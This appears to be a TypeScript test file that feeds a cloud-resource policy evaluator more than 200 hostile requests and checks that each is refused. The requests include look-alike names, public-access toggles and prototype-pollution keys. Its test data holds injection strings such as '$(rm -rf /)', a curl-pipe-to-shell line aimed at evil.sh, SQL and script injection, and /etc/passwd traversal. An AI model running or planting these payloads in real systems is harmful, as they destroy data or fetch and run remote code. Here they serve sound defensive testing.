import { member, testPolicy, valid } from './__fixtures__/policy';
import { evaluate } from './evaluate';
import { describeRules } from './rules/catalogue';
import { resolvePolicy } from './policy/resolve';

const knownRuleIds = new Set(describeRules().map(r => r.id));
type Kind = keyof typeof valid;

/** Hostile names: look-alikes, traversal, shell and SQL metacharacters, oversize, control chars. */
const hostileNames = [
  'pаyments-api', // Cyrillic a
  'payments‐api', // U+2010 hyphen
  'ｐａｙｍｅｎｔｓ', // full-width
  'payments\u200bapi', // zero-width space
  '../../etc/passwd',
  '..',
  'a/b',
  '$(rm -rf /)',
  '`id`',
  'name;reboot',
  'x && curl evil.sh | sh',
  "x' OR '1'='1",
  '<script>alert(1)</script>',
  '%2e%2e%2f',
  'name\nINJECTED: log line',
  'a'.repeat(5000),
  '',
  ' ',
  'UPPERCASE',
  '-leading-hyphen',
];

const hostileValues = [
  null,
  42,
  -1,
  1e308,
  NaN,
  Infinity,
  true,
  [],
  {},
  'true',
  '1',
  ['x'],
  { $gt: '' },
];

function corpus(): Array<{ label: string; input: unknown }> {
  const out: Array<{ label: string; input: unknown }> = [];
  const kinds = Object.keys(valid) as Kind[];
  // Hostile names for every kind (names are judged by each kind's naming rule).
  for (const kind of kinds) {
    for (const name of hostileNames) {
      if (kind === 'github-secret' && /^[A-Z_]+$/.test(name)) continue; // a valid secret name
      out.push({
        label: `${kind} name ${JSON.stringify(name).slice(0, 30)}`,
        input: { ...valid[kind], name },
      });
    }
  }
  // Wrong types for every field of every kind.
  const wrongTypes = (v: unknown) =>
    typeof v === 'string'
      ? [42, true, ['x'], { $ne: '' }]
      : ['42', true, NaN, -1e308];
  for (const kind of kinds) {
    for (const [field, validValue] of Object.entries(valid[kind])) {
      for (const value of wrongTypes(validValue)) {
        out.push({
          label: `${kind}.${field} = ${JSON.stringify(value)}`,
          input: { ...valid[kind], [field]: value },
        });
      }
    }
  }
  // Numbers out of range.
  const numeric: Array<[Kind, string, number[]]> = [
    [
      'rds-instance',
      'allocatedStorageGb',
      [-20, 0, 1e9, 19.5, Number.MAX_SAFE_INTEGER],
    ],
    ['rds-instance', 'backupRetentionDays', [-7, 0, 36, 6.9]],
    ['rds-instance', 'port', [-1, 0, 22, 70000, 5432]],
    ['elasticache-redis', 'nodes', [-1, 0, 1000, 2.5]],
    ['elasticache-redis', 'snapshotRetentionDays', [-1, 0, 100]],
    ['github-secret', 'valueBytes', [-5, 0, 8193, 49153, 1e12]],
    ['s3-bucket', 'expectedStorageGb', [-100000, -0.5, 1e12, Number.MAX_VALUE]],
  ];
  for (const [kind, field, values] of numeric) {
    for (const value of values)
      out.push({
        label: `${kind}.${field} = ${value}`,
        input: { ...valid[kind], [field]: value },
      });
  }
  // Missing required fields and garbage documents.
  for (const kind of kinds) {
    for (const field of ['kind', 'name', 'environment', 'owner']) {
      const { [field as 'name']: _omitted, ...rest } = valid[kind] as any;
      out.push({ label: `${kind} without ${field}`, input: rest });
    }
  }
  for (const value of hostileValues)
    out.push({ label: `document ${JSON.stringify(value)}`, input: value });
  out.push({ label: 'empty batch', input: [] });
  out.push({
    label: 'prototype pollution',
    input: JSON.parse(
      '{"kind":"s3-bucket","name":"b-bucket","environment":"__proto__","owner":"payments"}',
    ),
  });
  out.push({
    label: 'constructor environment',
    input: { ...valid['s3-bucket'], environment: 'constructor' },
  });
  // Prototype keys as values of every allow-listed field, and as keys at every level.
  const protoWords = [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
  ];
  const listed: Array<[Kind, string]> = [
    ['rds-instance', 'engine'],
    ['rds-instance', 'instanceClass'],
    ['rds-instance', 'region'],
    ['rds-instance', 'engineVersion'],
    ['elasticache-redis', 'engine'],
    ['elasticache-redis', 'nodeType'],
    ['elasticache-redis', 'subnetGroup'],
    ['s3-bucket', 'encryption'],
    ['github-repo', 'visibility'],
    ['github-secret', 'scope'],
  ];
  for (const word of protoWords) {
    for (const [kind, field] of listed)
      out.push({
        label: `${kind}.${field} = ${word}`,
        input: { ...valid[kind], [field]: word },
      });
    out.push({
      label: `kind ${word}`,
      input: { ...valid['s3-bucket'], kind: word },
    });
    out.push({
      label: `environment ${word}`,
      input: { ...valid['s3-bucket'], environment: word },
    });
    out.push({
      label: `top-level key ${word}`,
      input: JSON.parse(
        `{"kind":"s3-bucket","name":"b-bucket","environment":"dev","owner":"payments","${word}":{"region":"us-east-1"}}`,
      ),
    });
    out.push({
      label: `nested key ${word}`,
      input: JSON.parse(
        `{"kind":"github-repo","name":"payments-api","environment":"dev","owner":"payments","protection":{"${word}":{"allowForcePushes":true}}}`,
      ),
    });
  }
  // Nulls for every field of every kind (an omitted field gets the default; a null one is refused).
  for (const kind of kinds) {
    for (const field of Object.keys(valid[kind]))
      out.push({
        label: `${kind}.${field} = null`,
        input: { ...valid[kind], [field]: null },
      });
  }
  // Values that used to slip through.
  out.push({
    label: 'RDS version with a suffix',
    input: { ...valid['rds-instance'], engineVersion: '16.999-evil' },
  });
  out.push({
    label: 'negative S3 storage offsetting a batch',
    input: [
      { ...valid['s3-bucket'], expectedStorageGb: -100000 },
      {
        ...valid['rds-instance'],
        environment: 'prod',
        tags: { 'cost-center': 'x' },
        instanceClass: 'db.m7g.large',
        allocatedStorageGb: 200,
      },
    ],
  });
  out.push({
    label: 'secret over 8 KiB',
    input: { ...valid['github-secret'], valueBytes: 8193 },
  });
  out.push({
    label: 'reserved database name',
    input: { ...valid['rds-instance'], dbName: 'template1' },
  });
  out.push({
    label: 'AWS-reserved tag',
    input: {
      ...valid['s3-bucket'],
      tags: { 'aws:cloudformation:stack-name': 'x' },
    },
  });
  out.push({
    label: 'forged provenance tag',
    input: { ...valid['s3-bucket'], tags: { 'golden-path:task-id': 'task-0' } },
  });
  // Security switches turned off, and wrong owners.
  out.push({
    label: 'public bucket',
    input: {
      ...valid['s3-bucket'],
      publicAccessBlock: {
        blockPublicAcls: false,
        ignorePublicAcls: false,
        blockPublicPolicy: false,
        restrictPublicBuckets: false,
      },
    },
  });
  out.push({
    label: 'public database',
    input: { ...valid['rds-instance'], publiclyAccessible: true },
  });
  out.push({
    label: 'password smuggled',
    input: { ...valid['rds-instance'], masterPassword: { value: 'x' } },
  });
  out.push({
    label: 'unauthenticated cache',
    input: {
      ...valid['elasticache-redis'],
      auth: 'none',
      transitEncryption: false,
    },
  });
  for (const kind of kinds) {
    out.push({
      label: `${kind} for another team`,
      input: { ...valid[kind], owner: 'group:default/checkout' },
    });
    out.push({
      label: `${kind} owned by a user`,
      input: { ...valid[kind], owner: 'user:default/jane' },
    });
    out.push({
      label: `${kind} in an unknown environment`,
      input: { ...valid[kind], environment: 'prod ' },
    });
    out.push({
      label: `${kind} with an unknown field`,
      input: { ...valid[kind], bypassGuardrails: true },
    });
  }
  return out;
}

describe('adversarial corpus', () => {
  const cases = corpus();

  it('has at least 200 hostile requests', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
  });

  it.each(cases.map(c => [c.label, c.input] as const))(
    'refuses %s, naming a rule',
    (_label, input) => {
      let result: ReturnType<typeof evaluate> | undefined;
      expect(() => {
        result = evaluate(input, testPolicy, member);
      }).not.toThrow();
      expect(result!.allowed).toBe(false);
      expect(result!.violations.length).toBeGreaterThan(0);
      for (const v of result!.violations) {
        expect(knownRuleIds.has(v.ruleId)).toBe(true);
        expect(v.message).not.toMatch(/[\n\r]/);
        expect(v.message.length).toBeLessThan(400);
      }
    },
  );

  it.each([
    [
      'relaxing a non-relaxable rule by name',
      {
        dev: {
          relax: [
            {
              rule: 'GP-RDS-NOT-PUBLIC',
              reason: 'we need a public demo database',
            },
          ],
        },
      },
      /GP-RDS-NOT-PUBLIC .* cannot be relaxed/,
    ],
    [
      'weakening backups below 7 days',
      { dev: { rds: { minBackupRetentionDays: 1 } } },
      /GP-RDS-BACKUP-RETENTION .* cannot be relaxed/,
    ],
    [
      'the default subnet group',
      { dev: { elasticache: { subnetGroup: 'default' } } },
      /GP-EC-SUBNET-GROUP .* cannot be relaxed/,
    ],
    [
      'zero approvals',
      { dev: { github: { minApprovals: 0 } } },
      /GP-GH-BRANCH-PROTECTION .* cannot be relaxed/,
    ],
    [
      'public repos without a recorded exception',
      { dev: { github: { allowedVisibilities: ['private', 'public'] } } },
      /record it under goldenPath\.environments\.dev\.relax/,
    ],
    [
      'a relaxation without a reason',
      {
        dev: {
          s3: { requireVersioning: false },
          relax: [{ rule: 'GP-S3-VERSIONING', reason: '' }],
        },
      },
      /needs a reason/,
    ],
    [
      'an unknown rule',
      { dev: { relax: [{ rule: 'GP-NOPE', reason: 'because of reasons' }] } },
      /must name a rule id/,
    ],
    [
      'a mistyped setting',
      { dev: { rds: { instanceClass: ['db.t4g.micro'] } } },
      /rds\.instanceClass is not a known setting/,
    ],
    [
      'a wrongly typed setting',
      { dev: { rds: { maxStorageGb: '100' } } },
      /rds\.maxStorageGb must be a number/,
    ],
    [
      'a class without a price',
      {
        dev: {
          rds: {
            instanceClasses: ['db.x2g.16xlarge'],
            defaultInstanceClass: 'db.x2g.16xlarge',
          },
        },
      },
      /no price for db\.x2g\.16xlarge/,
    ],
    [
      'Redis 6 allowed',
      {
        dev: {
          elasticache: { engines: { redis: ['6.2'] }, defaultEngine: 'redis' },
        },
      },
      /GP-EC-ENGINE-VERSION .* cannot be relaxed/,
    ],
  ])('refuses policy config %s', (_label, environments, message) => {
    expect(() => resolvePolicy({ environments: environments as any })).toThrow(
      message,
    );
  });

  it('accepts a relaxable rule relaxed with a reason, and reports it as an exception', () => {
    const policy = resolvePolicy({
      environments: {
        sandbox: {
          s3: { requireVersioning: false },
          relax: [
            {
              rule: 'GP-S3-VERSIONING',
              reason: 'sandbox buckets are scratch space',
            },
          ],
        },
      },
    });
    const result = evaluate(
      {
        kind: 's3-bucket',
        name: 'scratch-bucket',
        environment: 'sandbox',
        owner: 'payments',
        versioning: false,
      },
      policy,
      member,
    );
    expect(result.allowed).toBe(true);
    expect(result.exceptions).toEqual([
      {
        ruleId: 'GP-S3-VERSIONING',
        environment: 'sandbox',
        reason: 'sandbox buckets are scratch space',
      },
    ]);
  });
});
